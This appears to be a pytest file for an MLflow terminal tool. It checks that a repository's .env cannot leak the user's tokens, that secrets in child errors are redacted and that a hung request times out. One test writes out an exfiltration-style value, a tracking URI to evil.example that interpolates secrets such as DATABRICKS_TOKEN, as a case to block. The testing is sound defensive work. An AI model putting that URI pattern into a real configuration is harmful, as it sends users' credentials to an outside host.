"""None of the user's secrets goes where only a repository sends them; no chart waits behind a hung request."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from misbehaving import Misbehaving
from mltui.config import Config
from mltui.errors import Denied, SourceError, Unreachable
from mltui.model.runs import Store
from mltui.sources.dotenv import parse
from mltui.sources.mlflow.databricks.door import DatabricksDoor
from mltui.sources.mlflow.databricks.whose import child_environment
from mltui.sources.mlflow.opening import open_store
from mltui.sources.mlflow.server import columns
from mltui.sources.mlflow.server.login import login
from mltui.sources.mlflow.server.rest import Rest
from mltui.sources.places import Project
from mltui.sources.runner import ProcessRunner

MINE = {"DATABRICKS_TOKEN": "dapi-mine", "AZURE_CLIENT_SECRET": "mine", "PATH": "/bin"}


@pytest.mark.parametrize("name", ["DATABRICKS_TOKEN", "AWS_SECRET_ACCESS_KEY", "MLFLOW_TRACKING_PASSWORD", "Pg_Passwd"])
def test_a_secret_of_the_environment_is_not_filled_in(name: str) -> None:
    text = f"MLFLOW_TRACKING_URI=http://evil.example/${{{name}}}/${{PLACE}}\n"
    said = parse(text, {name: "s3cret", "PLACE": "here"})
    assert said == {"MLFLOW_TRACKING_URI": "http://evil.example//here"}


def test_a_host_of_the_repository_gets_its_own_token_only() -> None:
    theirs = {"DATABRICKS_HOST": "https://theirs.example", "DATABRICKS_TOKEN": "dapi-theirs"}
    child = child_environment(theirs, MINE, named=False)
    assert "mine" not in str(child)
    assert (child["DATABRICKS_HOST"], child["DATABRICKS_TOKEN"]) == ("https://theirs.example", "dapi-theirs")
    assert (child["AZURE_CLIENT_SECRET"], child["DATABRICKS_CONFIG_FILE"]) == (None, "/dev/null")
    with pytest.raises(Denied, match="your login is not sent there"):
        child_environment({"DATABRICKS_HOST": "https://theirs.example"}, MINE, named=False)
    assert child_environment(theirs, MINE, named=True) == {}
    assert child_environment(theirs, {**MINE, "DATABRICKS_HOST": "https://mine.example"}, named=False) == {}


def test_a_databricks_of_the_repository_is_not_asked_with_the_users_token(
    server: Misbehaving, tmp_path: Path, own_places: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("DATABRICKS_HOST", "DATABRICKS_CONFIG_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABRICKS_TOKEN", "dapi-mine")
    (tmp_path / ".env").write_text(f"MLFLOW_TRACKING_URI=databricks\nDATABRICKS_HOST={server.uri}\n")
    config = Config(store="databricks", store_origin="repository")
    with pytest.raises(Denied, match="only the repository names the workspace"):
        open_store(Store("databricks", "rest", "repository"), Project(tmp_path, tmp_path), config)
    assert server.asked == []


def test_a_token_in_an_error_of_the_child_is_not_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABRICKS_TOKEN", "of-no-known-form")
    text = "no: of-no-known-form dapi0123abc Bearer abc.def eyJhbGciOi.J9 token=xyz"
    script = tmp_path / "python"
    script.write_text(
        f"#!{sys.executable}\nimport json, sys\nsys.stdin.readline()\n"
        f"print(json.dumps({{'error': {{'kind': 'failed', 'text': {text!r}}}}}), flush=True)\n"
    )
    script.chmod(0o755)
    door = DatabricksDoor("databricks", "", python=str(script), root=tmp_path, runner=ProcessRunner())
    with pytest.raises(SourceError) as caught:
        door.get("runs/get", {})
    door.close()
    assert caught.value.summary == "databricks: no: *** *** Bearer *** *** token=***"


def test_a_chart_does_not_wait_behind_a_hung_request(server: Misbehaving, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(columns, "WITHIN", 0.01)
    rest = Rest(login(server.uri, {}))
    with rest._one, pytest.raises(Unreachable, match="the server does not answer"):  # as while another is on its way
        columns.history(rest, "a", "loss")
    assert columns.history(rest, "a", "loss")[0]
    rest.close()
